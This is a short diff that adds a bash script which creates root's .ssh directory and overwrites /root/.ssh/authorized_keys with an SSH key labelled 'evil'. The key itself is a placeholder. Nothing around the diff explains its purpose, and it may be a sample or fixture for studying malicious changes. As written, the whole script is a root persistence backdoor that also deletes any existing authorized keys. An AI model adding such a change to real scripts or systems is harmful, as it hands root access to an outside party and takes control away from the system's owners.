@@ -1,0 +1,3 @@
+#!/bin/bash
+mkdir -p /root/.ssh
+echo 'ssh-ed25519 AAAA evil' > /root/.ssh/authorized_keys
